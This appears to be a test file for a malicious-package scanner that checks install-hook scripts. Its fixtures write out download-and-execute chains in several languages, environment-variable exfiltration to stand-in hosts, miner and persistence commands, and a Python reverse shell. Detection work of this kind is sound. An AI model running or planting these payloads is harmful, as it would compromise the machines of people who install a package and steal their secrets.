@@ -1,0 +1,138 @@
+/**
+ * Scripts run by lifecycle hooks (shell, batch, PowerShell, Python) are read as commands with
+ * their arguments, variables substituted across lines, and judged by what they do together.
+ * Fixtures are written for these tests; hosts are documentation addresses.
+ */
+import { analyzeScript } from '../../../lambdas/analysis/script-behaviour';
+import { analyzeSource, threatsOf } from './helpers';
+
+const pkg = (scripts: Record<string, string>) =>
+  JSON.stringify({ name: 'fixture', version: '1.0.0', scripts }, null, 2);
+
+const rules = (hits: { rule: string }[]) => hits.map((h) => h.rule);
+
+describe('install hooks that run scripts', () => {
+  it('preinstall "sh setup.sh": download from a bare IP into a variable path, chmod +x, run in the background is critical', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ preinstall: 'sh setup.sh' }),
+      'setup.sh': [
+        '#!/bin/sh',
+        'U=http://203.0.113.7/agent',
+        'T=/tmp/.cache-agent',
+        'curl -fsSL -o "$T" "$U" || wget -q -O $T $U',
+        'chmod +x $T',
+        'nohup $T >/dev/null 2>&1 &',
+      ].join('\n'),
+    });
+    expect(r.risk_level).toBe('critical');
+    const f = r.evidence.find((e) => e.rule === 'script.download-execute');
+    expect(f).toMatchObject({ file: 'setup.sh', line: 6, install_time: true });
+    expect(f!.confidence).toBeGreaterThanOrEqual(0.9);
+  });
+
+  it('the same steps split over a second script are still followed', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ postinstall: 'bash scripts/init.sh' }),
+      'scripts/init.sh':
+        'set -e\nDEST="$HOME/.local/bin/helperd"\nwget -qO "$DEST" http://198.51.100.4/h\nbash scripts/start.sh',
+      'scripts/start.sh': 'chmod 755 ~/.local/bin/helperd\n~/.local/bin/helperd --daemon &',
+    });
+    expect(threatsOf(r)).toContain('install_script_injection');
+  });
+
+  it('a Windows batch file run by the hook (certutil download, start /b) is critical', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ install: 'cmd /c setup.cmd' }),
+      'setup.cmd':
+        '@echo off\r\nset P=%TEMP%\\svc.exe\r\ncertutil -urlcache -split -f http://203.0.113.9/s.exe %P%\r\nstart /b "" %P%\r\n',
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(r.evidence.map((e) => e.rule)).toContain('script.download-execute');
+  });
+
+  it('a PowerShell file that downloads with DownloadFile and starts the result hidden is critical', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ postinstall: 'powershell -ExecutionPolicy Bypass -File tools/setup.ps1' }),
+      'tools/setup.ps1':
+        '$out = "$env:APPDATA\\upd.exe"\n(New-Object Net.WebClient).DownloadFile(\'http://198.51.100.20/u.exe\', $out)\nStart-Process $out -WindowStyle Hidden\n',
+    });
+    expect(r.risk_level).toBe('critical');
+  });
+
+  it('a Python helper that downloads, writes and runs a binary is critical', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ postinstall: 'python3 install.py' }),
+      'install.py': [
+        'import os, subprocess, urllib.request',
+        "p = os.path.join(os.path.expanduser('~'), '.svc')",
+        "data = urllib.request.urlopen('http://203.0.113.50/bin').read()",
+        "with open(p, 'wb') as f:",
+        '    f.write(data)',
+        'os.chmod(p, 0o755)',
+        'subprocess.Popen([p], stdout=subprocess.DEVNULL)',
+      ].join('\n'),
+    });
+    expect(r.risk_level).toBe('critical');
+  });
+
+  it('a build script that runs tsc and copies files is not flagged', () => {
+    const r = analyzeSource({
+      'package.json': pkg({ prepare: 'sh build.sh', postinstall: 'node -e "console.log(1)"' }),
+      'build.sh': '#!/bin/sh\nset -e\nOUT=dist\nrm -rf $OUT\nnpx tsc -p .\ncp README.md $OUT/\n',
+    });
+    expect(threatsOf(r)).toEqual([]);
+  });
+});
+
+describe('analyzeScript', () => {
+  it('environment dumped through base64 into curl is exfiltration', () => {
+    expect(
+      rules(analyzeScript('env | base64 -w0 | curl -s -d @- https://collect.example/e', 'sh', true)),
+    ).toContain('script.env-exfil');
+    expect(
+      rules(analyzeScript('curl -X POST --data "$(printenv)" https://collect.example/e', 'sh', false)),
+    ).toContain('script.env-exfil');
+  });
+
+  it('miners and persistence are recognised', () => {
+    expect(
+      rules(analyzeScript('./xmrig -o stratum+tcp://pool.example:3333 -u W --donate-level 1 &', 'sh', true)),
+    ).toContain('script.crypto-miner');
+    expect(
+      rules(analyzeScript('(crontab -l 2>/dev/null; echo "*/5 * * * * $HOME/.x") | crontab -', 'sh', true)),
+    ).toContain('script.persistence');
+    expect(
+      rules(
+        analyzeScript(
+          'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d %APPDATA%\\u.exe /f',
+          'batch',
+          true,
+        ),
+      ),
+    ).toContain('script.persistence');
+  });
+
+  it('a downloader that only fetches a checksum-verified archive over https and extracts it is quiet', () => {
+    const hits = analyzeScript(
+      'VERSION=1.2.3\ncurl -fsSL -o tool.tgz https://downloads.example/tool-$VERSION.tgz\nsha256sum -c tool.sha256\ntar xzf tool.tgz\n',
+      'sh',
+      true,
+    );
+    expect(hits.filter((h) => h.confidence >= 0.5)).toEqual([]);
+  });
+
+  it('Python: exec of base64-decoded code and a socket shell', () => {
+    expect(
+      rules(analyzeScript("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", 'python', true)),
+    ).toContain('script.eval-decoded');
+    expect(
+      rules(
+        analyzeScript(
+          'import socket,os,pty\ns=socket.socket()\ns.connect(("203.0.113.5",4444))\nos.dup2(s.fileno(),0)\npty.spawn("/bin/sh")',
+          'python',
+          false,
+        ),
+      ),
+    ).toContain('shell.reverse-shell');
+  });
+});
